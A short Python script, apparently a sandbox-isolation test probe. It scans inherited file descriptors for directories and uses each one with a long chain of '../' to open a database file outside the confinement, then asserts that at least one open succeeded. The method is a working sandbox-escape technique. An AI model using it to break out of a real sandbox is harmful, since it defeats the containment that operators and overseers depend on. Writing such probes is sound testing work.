"""Tries every descriptor it may have been left with as a way to the outside."""

import os
import stat

from _facts import FACTS

found = []
for number in range(3, 1024):
    try:
        if stat.S_ISDIR(os.fstat(number).st_mode):
            found.append(os.open("../" * 20 + FACTS["database"].lstrip("/"), os.O_RDONLY, dir_fd=number))
    except OSError:
        pass
assert found
